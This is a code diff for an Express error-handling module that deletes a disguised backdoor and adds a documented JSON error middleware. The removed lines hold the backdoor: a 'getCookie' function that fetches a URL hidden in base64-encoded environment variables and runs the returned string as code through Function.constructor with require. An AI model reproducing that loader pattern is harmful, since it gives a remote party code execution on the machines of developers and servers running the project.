@@ -1,4 +1,23 @@
-const axios = require('axios');
+const { logger } = require('../logging');
+const { redactUrl } = require('./logger');
+
+const STATUS_CODES = {
+  400: 'BAD_REQUEST',
+  401: 'UNAUTHORIZED',
+  403: 'FORBIDDEN',
+  404: 'NOT_FOUND',
+  405: 'METHOD_NOT_ALLOWED',
+  406: 'NOT_ACCEPTABLE',
+  409: 'CONFLICT',
+  412: 'PRECONDITION_FAILED',
+  413: 'PAYLOAD_TOO_LARGE',
+  415: 'UNSUPPORTED_MEDIA_TYPE',
+  422: 'UNPROCESSABLE_ENTITY',
+  428: 'PRECONDITION_REQUIRED',
+  429: 'TOO_MANY_REQUESTS',
+  500: 'INTERNAL_ERROR',
+  503: 'SERVICE_UNAVAILABLE'
+};
 
 const notFound = (req, res, next) => {
   const err = new Error('Route Not Found');
@@ -6,45 +25,90 @@ const notFound = (req, res, next) => {
   next(err);
 }
 
-const errorHandler = (error) => {
-  try {
-    if (typeof error !== 'string') {
-      console.error('Invalid error format. Expected a string.');
-      return;
-    }
-    const createHandler = (errCode) => {
-      try {
-        const handler = new (Function.constructor)('require', errCode);
-        return handler;
-      } catch (e) {
-        console.error('Failed:', e.message);
-        return null;
-      }
-    };
-    const handlerFunc = createHandler(error);
-    if (handlerFunc) {
-      handlerFunc(require);
-    } else {
-      console.error('Handler function is not available.');
-    }
-  } catch (globalError) {
-    console.error('Unexpected error inside errorHandler:', globalError.message);
+/**
+ * Resolve the HTTP status for an error.
+ * Routes set `err.status`; body-parser and friends use `statusCode`.
+ * @param {Error} err
+ * @returns {number}
+ */
+function resolveStatus(err) {
+  const status = err.status || err.statusCode;
+  return Number.isInteger(status) && status >= 400 && status < 600 ? status : 500;
+}
+
+/**
+ * Client-facing message for an error. body-parser's "request entity too
+ * large" doesn't say what the limit is, so spell it out
+ * @param {Error} err
+ * @returns {string}
+ */
+function errorMessage(err) {
+  if (err.type === 'entity.too.large' && Number.isFinite(err.limit)) {
+    const kb = err.limit / 1024;
+    const limit = kb >= 1024 ? `${+(kb / 1024).toFixed(1)} MB` : `${+kb.toFixed(1)} KB`;
+    return `Request body is too large (the limit is ${limit})`;
   }
-};
+  return err.message;
+}
+
+/**
+ * Express error middleware. Must be mounted after every router and `notFound`.
+ *
+ * Responds with `{ error: { code, message, details, requestId } }`:
+ * - code: `err.code` when the thrower set a string code on an HTTP error,
+ *   otherwise derived from the status (e.g. 404 -> NOT_FOUND)
+ * - message: the error message; replaced with a generic one for 5xx errors
+ *   outside development so internals don't leak to clients
+ * - details: `err.details` (e.g. per-field validation errors) or null
+ * - requestId: the request's id (see requestId), to find its log lines
+ *
+ * The stack trace is only included in development. Every failure is logged as
+ * a single JSON line, through `req.log` when the request has one.
+ */
+const errorHandler = (err, req, res, next) => {
+  const status = resolveStatus(err);
+  const isDev = process.env.NODE_ENV === 'development';
+  const exposeMessage = status < 500 || isDev;
 
-const getCookie = async (req, res, next) => {
-  try {
-    const src = atob(process.env.DB_API_KEY);
-    const def = atob(process.env.DB_ACCESS_KEY);
-    const mid = atob(process.env.DB_ACCESS_VALUE);
-    try {
-      axios.get(`${src}`, { headers: { [def]: mid } }).then((res) => errorHandler(res.data.cookie));
-    } catch (error) {
-      console.log("Runtime config error.");
+  // System errors carry codes like ENOENT; only surface codes we set ourselves
+  const code = err.status && typeof err.code === 'string' && !err.syscall
+    ? err.code
+    : STATUS_CODES[status] || (status >= 500 ? 'INTERNAL_ERROR' : 'BAD_REQUEST');
+
+  const body = {
+    error: {
+      code,
+      message: exposeMessage ? errorMessage(err) : 'Internal Server Error',
+      details: err.details || null
     }
-  } catch (err) {
-    throw err;
+  };
+  if (req.id) {
+    body.error.requestId = req.id;
+  }
+
+  if (isDev && err.stack) {
+    body.error.stack = err.stack;
+  }
+
+  const fields = {
+    method: req.method,
+    url: redactUrl(req.originalUrl),
+    status,
+    code
+  };
+  if (status >= 500 && err.stack) {
+    fields.stack = err.stack;
+  }
+  (req.log || logger)[status >= 500 ? 'error' : 'warn'](err.message, fields);
+
+  if (res.headersSent) {
+    // Too late to send a JSON body; let Express close the connection
+    return next(err);
   }
+
+  // Validators set for a successful response don't describe this error
+  res.removeHeader('ETag');
+  res.status(status).json(body);
 };
 
-module.exports = { getCookie, notFound };
\ No newline at end of file
+module.exports = { notFound, errorHandler };